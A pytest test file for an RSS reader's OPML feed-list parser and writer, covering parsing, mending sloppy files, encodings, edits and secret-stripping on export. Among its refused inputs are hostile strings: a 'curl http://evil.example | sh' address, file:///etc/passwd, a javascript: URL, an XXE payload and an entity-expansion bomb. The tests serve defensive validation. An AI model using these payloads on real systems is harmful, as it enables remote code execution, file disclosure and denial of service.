from __future__ import annotations

import codecs
import contextlib
import json
from dataclasses import replace
from pathlib import Path

import listparser
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from newswatch.errors import FeedsInvalid, FileChanged
from newswatch.feeds.opml import (
    LoadedFeeds,
    OpmlDocument,
    add_feeds,
    build_opml,
    change_feed,
    change_feeds,
    edit_feeds,
    load_feeds,
    read_opml,
    remove_feed,
    save_feeds,
    write_opml,
)
from newswatch.feeds.opmlread import MAX_BYTES
from newswatch.feeds.opmltext import escaped
from newswatch.model.feed import Feed, feed_id

CORPUS = Path(__file__).parents[2].parent / "shared" / "corpus" / "feeds"

OWN = b"""\
<?xml version="1.0" encoding="UTF-8"?>
<!-- Kept by hand. -->
<opml version="2.0" xmlns:nw="urn:newswatch:opml:1" xmlns:other="urn:other">
  <head>
    <title>Desk</title>
    <windowTop>61</windowTop>
  </head>
  <body>
    <outline text="Wires" isOpen='true'>
      <outline type="rss" text="Dnipro Wire" title="DW"
               xmlUrl="https://dnipro.example/rss?a=1&amp;b=2" htmlUrl="https://dnipro.example/" language="uk"
               other:colour='red' nw:interval="5m" nw:paused="yes" nw:tags="wires, ukraine" /> <!-- the best -->
      <outline text="Sea">
        <outline xmlUrl='http://192.168.1.5:8080/feed' nw:allow-private="no"/>
      </outline>
    </outline>

    <outline type="rss" title="Harbour" xmlUrl="https://user:secret@harbour.example/feed"/>
  </body>
</opml>
"""


def opml(body: str) -> bytes:
    return f"<opml><body>{body}</body></opml>".encode()


def own(body: str) -> OpmlDocument:
    return read_opml(opml(body), is_own=True)


def a_feed(url: str, **changes: object) -> Feed:
    return replace(Feed(feed_id(url), url, allow_private=True), **changes)  # type: ignore[arg-type]  # names of fields


# What an outline means.


def test_each_attribute_of_a_feed_is_read() -> None:
    dnipro, sea, harbour = read_opml(OWN, is_own=True).feeds()
    assert dnipro == Feed(
        id=feed_id("https://dnipro.example/rss?a=1&b=2"),
        url="https://dnipro.example/rss?a=1&b=2",
        name="Dnipro Wire",
        site="https://dnipro.example/",
        lang="uk",
        folder=("Wires",),
        tags=("wires", "ukraine"),
        interval_s=300,
        is_paused=True,
        allow_private=True,
    )
    assert sea.folder == ("Wires", "Sea")
    assert sea.name == ""
    assert not sea.allow_private
    assert harbour.name == "Harbour"
    assert harbour.url == "https://user:secret@harbour.example/feed"
    assert harbour.allow_private


def test_a_file_from_elsewhere_gives_no_rights() -> None:
    body = '<outline xmlUrl="http://a.example/" nw:allow-private="yes" nw:first-address="http://known.example/"/>'
    (feed,) = read_opml(opml(body)).feeds()
    assert not feed.allow_private
    assert feed.id == feed_id("http://a.example/")


def test_letter_case_of_names_makes_no_difference() -> None:
    (feed,) = read_opml(b'<OPML><Body><OUTLINE TEXT="A" XMLURL="http://a.example/"/></Body></OPML>').feeds()
    assert feed.name == "A"


def test_the_overrides_may_have_any_prefix_and_another_one_called_nw_is_not_ours() -> None:
    mine = '<outline xmlns:n="urn:newswatch:opml:1" xmlUrl="http://a.example/" n:paused="true"/>'
    other = '<outline xmlns:nw="urn:else" xmlUrl="http://b.example/" nw:paused="true"/>'
    assert [feed.is_paused for feed in own(mine + other).feeds()] == [True, False]


def test_an_override_that_makes_no_sense_is_told_and_the_default_holds() -> None:
    document = own('\n<outline xmlUrl="http://a.example/" nw:interval="soon" nw:paused="perhaps" nw:tagz="x"/>')
    (feed,) = document.feeds()
    assert (feed.interval_s, feed.is_paused) == (None, False)
    assert [warning[:7] for warning in document.warnings] == ["line 2:"] * 3
    assert any("did you mean nw:tags?" in warning for warning in document.warnings)


def test_an_address_stands_once() -> None:
    document = own('<outline text="A" xmlUrl="http://a.example/"/><outline text="B" xmlUrl=" http://a.example/ "/>')
    assert [feed.name for feed in document.feeds()] == ["A"]
    assert "stands in the list already" in document.warnings[0]


@pytest.mark.parametrize(
    "address",
    [
        "exec:curl http://evil.example | sh",
        "filter:cat:http://a.example/",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "ssh://a.example/",
        "query:all:unread",
        "http://",
        "--version",
        "/etc/passwd",
    ],
)
def test_what_is_no_address_of_the_web_is_refused_with_a_reason(address: str) -> None:
    document = own(f'\n<outline text="x" xmlUrl="{address}"/><outline xmlUrl="http://good.example/"/>')
    assert [feed.url for feed in document.feeds()] == ["http://good.example/"]
    (refused,) = document.refused
    assert refused.line == 2
    assert refused.reason


def test_a_list_that_includes_another_is_not_followed() -> None:
    (refused,) = own('<outline type="include" text="x" url="http://a.example/list.opml"/>').refused
    assert "another list" in refused.reason


def test_a_refused_address_is_shown_without_its_secrets_and_escapes() -> None:
    (refused,) = own('<outline xmlUrl="ftp://me:secret@a.example/&#x9b;31m?key=secret"/>').refused
    assert "secret" not in str(refused)
    assert "\x9b" not in str(refused)


@pytest.mark.parametrize(
    ("written", "fetched"),
    [
        ("feed://a.example/rss", "http://a.example/rss"),
        ("feed:https://a.example/rss", "https://a.example/rss"),
        ("www.a.example/rss", "http://www.a.example/rss"),
        (" HTTP://a.example/r\u200bss\n", "HTTP://a.example/rss"),
    ],
)
def test_an_address_that_is_plain_to_see_is_mended(written: str, fetched: str) -> None:
    (feed,) = own(f'<outline xmlUrl="{written}"/>').feeds()
    assert feed.url == fetched


def test_names_are_clean_to_show() -> None:
    body = '<outline text="F&#x202e;older"><outline text="A&#x9b;31m  B&#10;C" xmlUrl="http://a.example/"/></outline>'
    (feed,) = own(body).feeds()
    assert feed.name == "A31m B C"
    assert feed.folder == ("Folder",)


def test_a_name_that_is_merely_the_address_is_none_and_the_title_may_be_one() -> None:
    url = "http://a.example/rss"
    for attributes, name in (
        (f'text="{url}"', ""),
        (f'text="{url}" title="{url}"', ""),
        (f'text="{url}" title="A"', "A"),
        (f'title="{url}" text="A"', "A"),
        ('text="" title="A"', "A"),
        ('text="A" title="B"', "A"),
    ):
        (feed,) = own(f'<outline {attributes} xmlUrl="{url}"/>').feeds()
        assert feed.name == name


def test_a_page_that_is_no_link_is_no_site() -> None:
    (feed,) = own('<outline xmlUrl="http://a.example/" htmlUrl="javascript:x"/>').feeds()
    assert feed.site is None


def test_feeds_below_64_folders_are_left_out_and_counted() -> None:
    body = '<outline text="x">' * 63 + '<outline xmlUrl="http://in.example/"/>'
    body += '<outline text="x"><outline xmlUrl="http://out.example/"/></outline>' + "</outline>" * 63
    document = own(body)
    assert [feed.url for feed in document.feeds()] == ["http://in.example/"]
    assert document.too_deep == 1


# Files that are no good.


@pytest.mark.parametrize(
    ("data", "sentence"),
    [
        (b"", "OPML:1:1: this is not well-formed XML: no element found"),
        (b"<opml><body>\n<outline></body></opml>", ":2:12: this is not well-formed XML: mismatched tag"),
        (b'<opml>\n  <outline text="a&b"/></opml>', ":2:21: this is not well-formed XML"),
        (b"<opml><body>", "no element found"),
        (b'<?xml version="1.0"?>\n<!DOCTYPE opml>\n<opml/>', ":2:1: a DOCTYPE is not allowed here"),
        (b"<html/>", ":1:1: this is no OPML: its outermost element is <html>"),
        (b"<rss/>", "it is a feed itself: add its address instead"),
        (b"<opml>\n<outline text='caf\xe9'/></opml>", ":2:19: this is not UTF-8 text; save the file"),
    ],
)
def test_a_mistake_in_the_own_file_is_told_with_its_place(data: bytes, sentence: str) -> None:
    with pytest.raises(FeedsInvalid) as caught:
        read_opml(data, is_own=True)
    assert sentence in str(caught.value)


BOMB = (
    b'<!DOCTYPE o [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><opml><body>&b;</body></opml>'
)
XXE = b'<!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/passwd">]><opml><outline text="&x;" xmlUrl="http://a.example/"/></opml>'


@pytest.mark.parametrize("data", [BOMB, XXE], ids=["bomb", "xxe"])
@pytest.mark.parametrize("is_own", [True, False])
def test_a_doctype_is_refused_before_anything_in_it_is_read(data: bytes, *, is_own: bool) -> None:
    with pytest.raises(FeedsInvalid, match="DOCTYPE"):
        read_opml(data, is_own=is_own)


def test_a_file_that_is_too_large_is_refused_unread() -> None:
    with pytest.raises(FeedsInvalid, match="larger than 16 MiB"):
        read_opml(b" " * (MAX_BYTES + 1))


@pytest.mark.parametrize(
    "hostile",
    [
        b'<a "' * 1_000_000,
        b"<outline " + b"a" * 4_000_000,
        b"<outline " + b"a " * 2_000_000,
        b"<opml><body>" + b'<outline xmlUrl="http://x.example/"' * 100_000,
        b"<!--" * 1_000_000,
        b'<outline a="' * 300_000,
        b"<outline a='\">" * 300_000,
        b"<opml>" + b"<a>" * 1_000_000,
        b"<opml>" + b"<outline>" * 10_000,
        b'<?xml version="1.0" encoding="punycode"?>' + b"a-b" * 1_000_000,
    ],
    ids=range(10),
)
@pytest.mark.timeout(30)  # each takes well under a second; time that grows with the square would take hours
def test_a_hostile_file_takes_time_linear_in_its_size(hostile: bytes) -> None:
    with contextlib.suppress(FeedsInvalid):
        read_opml(hostile)


# Sloppy files from elsewhere.


@pytest.mark.parametrize(
    ("body", "address"),
    [
        (
            '<outline text="Tom & Co" xmlUrl="http://a.example/?a=1&copy=2&lang=en"/>',
            "http://a.example/?a=1&copy=2&lang=en",
        ),
        ('<outline text="&nbsp;x" xmlUrl="http://a.example/?x=1&amp;y=2"/>', "http://a.example/?x=1&y=2"),
        ("<outline text=x xmlUrl=http://a.example/rss />", "http://a.example/rss"),
        ('<outline text="a \x0b b" xmlUrl="http://a.example/"/>', "http://a.example/"),
        ('<outline text="a < b" xmlUrl="http://a.example/">', "http://a.example/"),
        ('<outline text="1" text="2" xmlUrl="http://a.example/"/>', "http://a.example/"),
        ('<outline te\xbat="no name in XML" xm\xb9="" xmlUrl="http://a.example/"/>', "http://a.example/"),
    ],
)
def test_a_sloppy_outline_is_read_as_it_was_meant(body: str, address: str) -> None:
    document = read_opml(opml(body))
    assert [feed.url for feed in document.feeds()] == [address]
    assert "mended" in document.warnings[0]


def test_feeds_that_were_never_closed_stay_beside_each_other() -> None:
    body = "".join(f'<outline text="{n}" xmlUrl="http://a{n}.example/">\n' for n in range(100))
    document = read_opml(opml(f'<outline text="F">{body}'))
    assert len(document.feeds()) == 100
    assert {feed.folder for feed in document.feeds()} == {("F",)}


def test_what_was_commented_out_stays_out_of_a_mended_file() -> None:
    body = '<!-- <outline xmlUrl="http://gone.example/"/> -->&<outline xmlUrl="http://a.example/"/>'
    assert [feed.url for feed in read_opml(opml(body)).feeds()] == ["http://a.example/"]


def test_a_mended_file_keeps_its_lines() -> None:
    body = '&\n<outline\n xmlUrl="exec:x"/>\n\n<outline xmlUrl="ftp://a.example"/>'
    assert [refused.line for refused in read_opml(opml(body)).refused] == [2, 5]


def test_a_file_that_breaks_off_gives_what_stands_in_it() -> None:
    whole = read_opml(OWN).feeds()
    assert read_opml(OWN[: OWN.index(b'<outline type="rss" title=')]).feeds() == whole[:2]


@pytest.mark.parametrize(
    ("encoding", "mark"),
    [
        ("utf-8", codecs.BOM_UTF8),
        ("utf-16-le", codecs.BOM_UTF16_LE),
        ("utf-16-be", codecs.BOM_UTF16_BE),
        ("utf-16-le", b""),
        ("utf-16-be", b""),
        ("utf-32-le", codecs.BOM_UTF32_LE),
        ("utf-32-be", codecs.BOM_UTF32_BE),
        ("utf-32-le", b""),
    ],
)
@pytest.mark.parametrize("is_own", [True, False])
def test_any_unicode_encoding_is_read(encoding: str, mark: bytes, *, is_own: bool) -> None:
    text = f'<?xml version="1.0" encoding="{encoding[:6]}"?><opml><outline text="Київ 北" xmlUrl="http://a.example/"/></opml>'
    (feed,) = read_opml(mark + text.encode(encoding), is_own=is_own).feeds()
    assert feed.name == "Київ 北"


@pytest.mark.parametrize(
    ("declared", "encoding"), [("ISO-8859-1", "cp1252"), ("windows-1251", "cp1251"), ("Shift_JIS", "shift_jis")]
)
def test_a_declared_encoding_is_read_and_written_as_utf8(declared: str, encoding: str) -> None:
    name = {"cp1252": "Café “x”", "cp1251": "Київ", "shift_jis": "北朝鮮"}[encoding]
    text = (
        f"<?xml version='1.0' encoding='{declared}'?>\n<opml><outline text='{name}' xmlUrl='http://a.example/'/></opml>"
    )
    document = read_opml(text.encode(encoding), is_own=True)
    assert document.feeds()[0].name == name
    assert write_opml(document).decode() == text.replace(declared, "UTF-8")


@pytest.mark.parametrize(
    "declaration", ["", '<?xml version="1.0" encoding="UTF-8"?>', '<?xml version="1.0" encoding="x-none"?>']
)
def test_an_undeclared_or_wrong_encoding_is_guessed(declaration: str) -> None:
    text = f'{declaration}<opml><outline text="Café" xmlUrl="http://a.example/"/></opml>'
    assert read_opml(text.encode("cp1252")).feeds()[0].name == "Café"
    assert read_opml(text.encode("utf-8")).feeds()[0].name == "Café"


def test_blanks_before_the_declaration_do_not_matter_in_a_file_from_elsewhere() -> None:
    assert len(read_opml(b'\n\n <?xml version="1.0"?>' + opml('<outline xmlUrl="http://a.example/"/>')).feeds()) == 1


@settings(max_examples=200)
@given(
    st.binary(max_size=200) | st.text(st.sampled_from("<>/=\"'& \nopmlutinexUrhb:!-[]"), max_size=200).map(str.encode)
)
def test_no_bytes_raise_anything_but_feeds_invalid(data: bytes) -> None:
    for text in (data, b"<opml>" + data + b'<outline xmlUrl="http://a.example/"/></opml>'):
        for is_own in (True, False):
            try:
                document = read_opml(text, is_own=is_own)
            except FeedsInvalid:
                continue
            assert read_opml(write_opml(document)).source == document.source


# Writing.


def test_what_nobody_edits_stays_byte_for_byte() -> None:
    assert write_opml(read_opml(OWN, is_own=True)) == OWN


def test_new_feeds_come_last_in_their_folders() -> None:
    document = add_feeds(
        read_opml(OWN, is_own=True),
        [
            a_feed("http://1.example/", name='& "2"', folder=("Wires", "Sea"), lang="en", site="http://s.ex/"),
            a_feed("http://2.example/", folder=("Wires", "Land", "Deep"), interval_s=5_400.0, tags=("a", "b")),
            a_feed("http://three.example/", name="Three", is_paused=True, allow_private=False),
            a_feed("https://dnipro.example/rss?a=1&b=2", name="again"),
        ],
    )
    assert write_opml(document).decode() == OWN.decode().replace(
        """nw:allow-private="no"/>
""",
        """nw:allow-private="no"/>
        <outline type="rss" text="&amp; &quot;2&quot;" xmlUrl="http://1.example/" htmlUrl="http://s.ex/" language="en"/>
""",
    ).replace(
        """      </outline>
    </outline>

""",
        """      </outline>
      <outline text="Land">
        <outline text="Deep">
          <outline type="rss" text="http://2.example/" xmlUrl="http://2.example/" nw:interval="1h30m" nw:tags="a, b"/>
        </outline>
      </outline>
    </outline>

""",
    ).replace(
        "  </body>",
        """    <outline type="rss" text="Three" xmlUrl="http://three.example/" nw:paused="yes" nw:allow-private="no"/>
  </body>""",
    )
    two = next(feed for feed in document.feeds() if feed.url == "http://2.example/")
    assert two == a_feed("http://2.example/", folder=("Wires", "Land", "Deep"), interval_s=5_400.0, tags=("a", "b"))


@pytest.mark.parametrize(
    "source",
    [
        b"<opml/>",
        b"<opml></opml>",
        b"<opml><body/></opml>",
        b"<opml><head/><body></body></opml>",
        b"<opml>\r\n<body>\r\n</body>\r\n</opml>\r\n",
        b'<opml><body><outline text="F"/></body></opml>',
        b'<opml><body><outline text="F"></outline></body></opml>',
        b'<opml xmlns:nw="urn:else"><body/></opml>',
        b'<opml xmlns:x="urn:newswatch:opml:1"><body/></opml>',
    ],
)
def test_a_feed_can_be_added_to_any_document(source: bytes) -> None:
    wanted = [
        a_feed("http://a.example/?x=1&y=<>", name="A", folder=("F",), is_paused=True),
        a_feed("http://b.example/", name="B"),
    ]
    document = add_feeds(read_opml(source, is_own=True), wanted)
    assert sorted(document.feeds(), key=lambda feed: feed.name) == wanted
    assert document.warnings == ()


def test_many_feeds_are_added_at_once() -> None:
    feeds = [a_feed(f"https://h{n}.example/", folder=(f"F{n % 50}", "x")) for n in range(3_000)]
    document = add_feeds(read_opml(OWN, is_own=True), feeds)
    assert {feed.url for feed in feeds} <= {feed.url for feed in document.feeds()}


def test_a_removed_feed_takes_its_line_and_nothing_else() -> None:
    document = read_opml(OWN, is_own=True)
    document = remove_feed(document, document.feeds()[2].id)
    lines = OWN.decode().splitlines(keepends=True)
    assert write_opml(document).decode() == "".join(line for line in lines if "Harbour" not in line)


def test_a_comment_beside_a_removed_feed_stays() -> None:
    document = read_opml(OWN, is_own=True)
    source = write_opml(remove_feed(document, document.feeds()[0].id))
    assert b"<!-- the best -->" in source
    assert b"dnipro" not in source


def test_feeds_inside_a_removed_one_stay() -> None:
    document = own('<outline xmlUrl="http://a.example/"><outline xmlUrl="http://b.example/"/></outline>')
    assert [feed.url for feed in remove_feed(document, feed_id("http://a.example/")).feeds()] == ["http://b.example/"]


def test_removing_a_feed_that_is_not_there_is_refused() -> None:
    with pytest.raises(FeedsInvalid, match="no such feed"):
        remove_feed(read_opml(OWN, is_own=True), feed_id("http://nowhere.example/"))


def test_changing_a_feed_changes_its_attributes_and_no_other_byte() -> None:
    document = read_opml(OWN, is_own=True)
    feed = replace(document.feeds()[0], name="Dnipro <2>", is_paused=False, interval_s=60.0, lang=None)
    document = change_feed(document, feed)
    assert document.feeds()[0] == feed
    assert write_opml(document).decode() == OWN.decode().replace(
        'text="Dnipro Wire" title="DW"', 'text="Dnipro &lt;2&gt;" title="Dnipro &lt;2&gt;"'
    ).replace(' language="uk"', "").replace(' nw:paused="yes"', "").replace('nw:interval="5m"', 'nw:interval="1m"')


def test_a_feed_that_moved_keeps_its_id_however_often() -> None:
    document = own('<outline xmlUrl="http://old.example/"/>')
    old, new, newer = "http://old.example/", "https://new.example/", "https://newer.example/"
    for url, earlier in ((new, (old,)), (newer, (old, new)), (old, (new, newer))):
        document = change_feed(document, replace(document.feeds()[0], url=url))
        assert document.feeds() == (replace(a_feed(old), url=url, earlier=earlier),)
    assert document.warnings == ()


OLD, NEW = "http://old.example/?a=1&b=2", "https://new.example/?a=1&b=2"


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("<outline xmlUrl='OLD'/>", '<outline xmlUrl="NEW" nw:first-address="OLD"/>'),
        ("<outline  xmlURL = 'OLD' x:y='1' >", '<outline  xmlURL="NEW" x:y=\'1\' nw:first-address="OLD">'),
        (
            '<outline XMLURL="http://x/" xmlUrl="OLD"/>',
            '<outline XMLURL="http://x/" xmlUrl="NEW" nw:first-address="OLD"/>',
        ),
        ('<outline text="OLD" xmlUrl="OLD"/>', '<outline text="NEW" xmlUrl="NEW" nw:first-address="OLD"/>'),
        (
            '<outline text="OLD" title="A" xmlUrl="OLD"/>',
            '<outline text="NEW" title="A" xmlUrl="NEW" nw:first-address="OLD"/>',
        ),
        ('<outline text="A" xmlUrl="\n OLD"\n/>', '<outline text="A" xmlUrl="NEW" nw:first-address="OLD"/>'),
        (
            '<outline xmlUrl="OLD" nw:first-address="http://first.example/"/>',
            '<outline xmlUrl="NEW" nw:first-address="http://first.example/" nw:earlier-addresses="OLD"/>',
        ),
    ],
)
def test_a_new_address_changes_what_holds_the_old_one_and_no_other_byte(before: str, after: str) -> None:
    frame = '<opml xmlns:nw="urn:newswatch:opml:1" xmlns:x="urn:x"><!-- 1 --><body>\r\n %s<!-- 2 -->%s</body></opml>'

    def source(line: str) -> bytes:
        line = line.replace("OLD", escaped(OLD)).replace("NEW", escaped(NEW))
        return (frame % (line, "" if line.endswith("/>") else "</outline>")).encode()

    document = read_opml(source(before), is_own=True)
    (feed,) = document.feeds()
    document = change_feed(document, replace(feed, url=NEW))
    assert write_opml(document) == source(after)
    assert (document.feeds()[0].id, document.feeds()[0].url) == (feed.id, NEW)
    assert OLD in document.feeds()[0].earlier


def test_a_feed_keeps_its_id_where_its_own_line_means_something_else_by_our_prefix() -> None:
    document = own(f'<outline xmlUrl="{escaped(OLD)}" xmlns:nw="urn:else" nw:paused="yes"/>')
    (feed,) = document.feeds()
    document = change_feed(document, replace(feed, url=NEW))
    assert document.feeds() == (replace(feed, url=NEW, earlier=(OLD,)),)
    assert b'nw:paused="yes"' in write_opml(document)


def test_an_override_is_changed_where_it_stands_whatever_its_prefix() -> None:
    line = '<outline xmlUrl="http://a.example/" nw:allow-private="no" w:paused="yes"/>'
    document = read_opml(f'<opml xmlns:w="urn:newswatch:opml:1"><body>{line}</body></opml>'.encode(), is_own=True)
    (feed,) = document.feeds()
    assert (feed.allow_private, feed.is_paused) == (False, True)
    wanted = replace(feed, allow_private=True, is_paused=False, tags=("a",))
    document = change_feed(document, wanted)
    assert document.feeds() == (wanted,)
    assert b'<outline xmlUrl="http://a.example/" w:tags="a"/>' in write_opml(document)


def test_many_feeds_are_changed_at_once() -> None:
    feeds = [a_feed(f"https://h{n}.example/", folder=(f"F{n % 50}",)) for n in range(2_000)]
    document = add_feeds(read_opml(OWN, is_own=True), feeds)
    moved = [replace(feed, url=feed.url + "new") for feed in feeds]
    document = change_feeds(document, moved)
    assert {feed.url for feed in moved} <= {feed.url for feed in document.feeds()}
    assert {feed.id for feed in feeds} <= {feed.id for feed in document.feeds()}
    with pytest.raises(FeedsInvalid, match="no such feed"):
        change_feeds(document, [moved[0], a_feed("http://nowhere.example/")])


def test_a_list_to_give_away_keeps_the_order() -> None:
    folders = [("A",), (), ("B", "C"), ("B",), (), ("A",)]
    feeds = [a_feed(f"https://h{number}.example/", folder=folder) for number, folder in enumerate(folders)]
    order = [feed.url[9] for feed in build_opml(feeds, "x").feeds()]
    assert order == ["0", "5", "1", "2", "3", "4"]


def test_a_list_to_give_away_holds_no_passwords_and_nothing_that_is_only_for_here() -> None:
    source = write_opml(build_opml(read_opml(OWN, is_own=True).feeds(), 'My "list" & more'))
    assert b"secret" not in source
    assert b"nw:" not in source
    again = read_opml(source)
    assert [feed.folder for feed in sorted(again.feeds(), key=lambda feed: feed.name)] == [
        ("Wires", "Sea"),
        ("Wires",),
        (),
    ]
    assert {feed.url for feed in again.feeds()} == {
        "https://dnipro.example/rss?a=1&b=2",
        "http://192.168.1.5:8080/feed",
        "https://harbour.example/feed",
    }
    assert b"<title>My &quot;list&quot; &amp; more</title>" in source


NAMES = st.text(max_size=20).map(lambda name: " ".join(name.split()))


@settings(max_examples=80)
@given(st.lists(st.tuples(NAMES, st.lists(NAMES, max_size=3)), max_size=5))
def test_any_names_survive_being_written_and_read(named: list[tuple[str, list[str]]]) -> None:
    feeds = [
        a_feed(f"http://f{number}.example/", name=name, folder=tuple(folder))
        for number, (name, folder) in enumerate(named)
    ]
    document = add_feeds(own(""), feeds)
    assert {feed.id for feed in document.feeds()} == {feed.id for feed in feeds}
    again = read_opml(write_opml(document), is_own=True)
    assert again.feeds() == document.feeds()


# The file.


def test_without_a_file_there_are_no_feeds_and_saving_makes_one(tmp_path: Path) -> None:
    path = tmp_path / "feeds.opml"
    loaded = load_feeds(path)
    assert loaded.feeds == ()
    saved = save_feeds(path, loaded.fingerprint, add_feeds(loaded.document, [a_feed("http://a.example/", name="A")]))
    assert saved == load_feeds(path)
    assert [feed.name for feed in saved.feeds] == ["A"]
    assert path.stat().st_mode & 0o777 == 0o600


def test_a_file_that_changed_since_it_was_read_is_not_overwritten(tmp_path: Path) -> None:
    path = tmp_path / "feeds.opml"
    path.write_bytes(OWN)
    loaded = load_feeds(path)
    path.write_bytes(OWN + b"<!-- by hand -->\n")
    with pytest.raises(FileChanged):
        save_feeds(path, loaded.fingerprint, loaded.document)
    assert path.read_bytes().endswith(b"<!-- by hand -->\n")


def test_an_edit_of_a_file_that_changes_meanwhile_is_made_again(tmp_path: Path) -> None:
    path = tmp_path / "feeds.opml"
    path.write_bytes(OWN)
    tries: list[int] = []

    def change(loaded: LoadedFeeds) -> OpmlDocument:
        tries.append(len(loaded.feeds))
        if len(tries) <= 2:
            path.write_bytes(
                path.read_bytes().replace(b"</body>", b'<outline xmlUrl="http://x%d/"/></body>' % len(tries))
            )
        return add_feeds(loaded.document, [a_feed("http://a.example/")])

    assert len(edit_feeds(path, change).feeds) == 6
    assert tries == [3, 4, 5]


def test_an_edit_that_is_always_overtaken_ends(tmp_path: Path) -> None:
    path = tmp_path / "feeds.opml"
    path.write_bytes(OWN)

    def change(loaded: LoadedFeeds) -> OpmlDocument:
        path.write_bytes(path.read_bytes() + b"\n")
        return add_feeds(loaded.document, [a_feed("http://a.example/")])

    with pytest.raises(FileChanged):
        edit_feeds(path, change)


def test_an_edit_that_changes_nothing_writes_nothing(tmp_path: Path) -> None:
    path = tmp_path / "feeds.opml"
    assert edit_feeds(path, lambda loaded: loaded.document).feeds == ()
    assert not path.exists()


def test_a_file_that_cannot_be_read_or_written_is_told_with_what_to_do(tmp_path: Path) -> None:
    with pytest.raises(FeedsInvalid, match="cannot be read"):
        load_feeds(tmp_path)
    path = tmp_path / "gone" / "feeds.opml"
    with pytest.raises(FeedsInvalid, match="Make the folder"):
        save_feeds(path, load_feeds(path).fingerprint, read_opml(OWN, is_own=True))


# Against another reader, and files that nobody here wrote.


def test_listparser_finds_the_same_feeds_in_what_we_write() -> None:
    document = add_feeds(read_opml(OWN, is_own=True), [a_feed("http://new.example/", name="New & old")])
    theirs = listparser.parse(write_opml(document).decode())
    assert {(feed.url, feed.title) for feed in theirs.feeds} == {(feed.url, feed.name) for feed in document.feeds()}


def test_listparser_finds_the_same_folders_in_what_we_write() -> None:
    folders = [("A",), (), ("B", "C"), ("B",), ("Ü & <ö>", '"')]
    feeds = [
        a_feed(f"https://h{number}.example/", name=f"N{number}", folder=path) for number, path in enumerate(folders)
    ]
    theirs = listparser.parse(write_opml(build_opml(feeds, "x")).decode())
    assert not theirs.bozo
    found = {feed.url: {tuple(path) for path in feed.categories} for feed in theirs.feeds}
    assert found == {feed.url: {feed.folder} if feed.folder else set() for feed in feeds}


@pytest.mark.corpus
def test_lists_that_other_programs_wrote_give_the_addresses_that_other_readers_find() -> None:
    if not CORPUS.is_dir():
        pytest.skip("the third-party corpus is not beside this checkout")
    wanted = found = 0
    for line in (CORPUS / "oracle.jsonl").read_text(encoding="utf-8").splitlines():
        case = json.loads(line)
        if case["kind"] != "opml":
            continue
        data = (CORPUS / case["file"]).read_bytes()
        try:
            document = read_opml(data)
        except FeedsInvalid:
            addresses: set[str] = set()
        else:
            addresses = {feed.url for feed in document.feeds()}
            assert read_opml(write_opml(document)).feeds() == document.feeds()
        wanted += len(case.get("urls", ()))
        found += len(addresses.intersection(case.get("urls", ())))
    assert wanted > 100
    assert found >= 0.99 * wanted


def test_a_list_to_give_away_holds_no_secret_of_a_page_or_of_a_name_either() -> None:
    source = (
        b'<opml version="2.0"><body><outline text="https://bob:hunter2@old.example/rss" title="Wire"'
        b' xmlUrl="https://wire.example/rss" htmlUrl="https://wire.example/page?token=hunter2&amp;p=1"/>'
        b'<outline text="Amber (https://bob:hunter2@amber.example)" xmlUrl="https://amber.example/rss"/></body></opml>'
    )
    document = read_opml(source, is_own=True)
    assert [feed.name for feed in document.found] == ["Wire", "Amber (https://bob:hunter2@amber.example)"]
    given = write_opml(build_opml(document.found, "Mine")).decode()
    assert "hunter2" not in given
    assert 'htmlUrl="https://wire.example/page?p=1"' in given
    assert "hunter2" not in repr(document.found[0])


def test_a_name_that_is_an_earlier_address_is_no_name() -> None:
    line = b'<outline text="https://u:p@old.example/" xmlUrl="https://new.example/rss"/>'
    source = b'<opml version="2.0"><body>' + line + b"</body></opml>"
    assert read_opml(source, is_own=True).found[0].name == ""


def test_a_list_with_endless_mistakes_is_read_with_the_first_warnings_only() -> None:
    lines = "".join(f'<outline xmlUrl="https://a{number}.example/" nw:intervall="x"/>\n' for number in range(2_000))
    document = read_opml(f'<opml xmlns:nw="urn:newswatch:opml:1"><body>{lines}</body></opml>'.encode())
    assert len(document.found) == 2_000
    assert len(document.warnings) == 1_001
    assert document.warnings[-1] == "only the first 1,000 of the warnings are told"
